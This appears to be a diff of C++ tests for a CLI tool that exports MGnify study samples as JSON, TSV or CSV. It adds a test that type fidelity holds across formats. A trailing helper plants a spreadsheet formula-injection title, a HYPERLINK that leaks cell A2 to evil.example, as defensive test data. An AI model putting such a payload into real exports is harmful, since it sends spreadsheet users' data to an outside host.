@@ -433,6 +433,42 @@ TEST_CASE("samples-table TSV and CSV carry a cell as it is, quoted; escaped only
   CHECK(shown.err.find("4\\t5 \\ \"\"x\"\" \\x1b[2J end") != std::string::npos);
 }
 
+TEST_CASE("samples-table JSON keeps the service's types: numbers, booleans, objects",
+          "[cli][tables][samples]") {
+  const auto& d = v2data::dataset();
+  const auto& study = d.studies[2];
+  json sample = d.samples[static_cast<std::size_t>(study.samples[0])].with_metadata;
+  sample["metadata"]["lat"] = 0;
+  sample["metadata"]["ph"] = 7;
+  sample["metadata"]["flag"] = true;
+  sample["metadata"]["nested"] = {{"a", 1}, {"b", "x"}};
+  sample["metadata"]["note"] = "7";
+  const json page = {{"count", 1}, {"items", json::array({sample})}};
+  const std::string path =
+      std::string(mgnify::mock::kV2Prefix) + "/studies/" + study.accession + "/samples/";
+  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page.dump()));
+  const auto run = run_tables_cli({"samples-table", study.accession, "--format", "json"});
+  REQUIRE(run.code == 0);
+  const json rows = json::parse(run.out);
+  REQUIRE(rows.size() == 1);
+  CHECK(rows[0].at("lat") == 0);
+  CHECK(rows[0].at("ph") == 7);
+  CHECK(rows[0].at("flag") == true);
+  CHECK(rows[0].at("nested") == json{{"a", 1}, {"b", "x"}});
+  CHECK(rows[0].at("note") == "7");
+  CHECK(rows[0].at("accession") == sample.at("accession"));
+
+  // The same values in TSV: numbers and booleans as JSON writes them, objects as compact JSON.
+  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page.dump()));
+  const auto tsv = run_tables_cli({"samples-table", study.accession, "--format", "tsv"});
+  REQUIRE(tsv.code == 0);
+  const auto lines = tsv_rows(tsv.out);
+  REQUIRE(lines.size() == 2);
+  CHECK(lines[1].at(index_of(lines[0], "ph")) == "7");
+  CHECK(lines[1].at(index_of(lines[0], "flag")) == "true");
+  CHECK(lines[1].at(index_of(lines[0], "nested")) == R"("{""a"":1,""b"":""x""}")");
+}
+
 /// The study's first sample with a hostile title and metadata value, served as its only sample.
 void serve_formula_sample(const std::string& study_accession, json sample) {
   sample["sample_title"] = R"(=HYPERLINK("http://evil.example/?leak="&A2,"Click"))";
